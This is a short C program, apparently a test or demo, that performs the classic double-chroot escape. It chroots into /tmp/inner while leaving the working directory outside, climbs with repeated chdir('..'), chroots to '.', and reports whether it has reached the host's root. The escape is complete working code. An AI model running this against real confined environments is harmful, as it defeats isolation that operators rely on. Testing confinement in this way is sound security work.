// SPDX-License-Identifier: GPL-2.0-only
/*
 * The way out of a chroot that everybody knows: a second chroot() leaves the
 * working directory above the root, and from there it goes up.
 */

#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	int i;

	mkdir("/tmp/inner", 0755);
	if (chroot("/tmp/inner")) {
		perror("chroot");
		return 1;
	}
	for (i = 0; i < 40; i++)
		if (chdir(".."))
			break;
	if (chroot(".")) {
		perror("chroot");
		return 1;
	}
	puts(access("/demo/script", F_OK) ? "still inside" :
					    "escaped: this is the host's root");
	return 0;
}
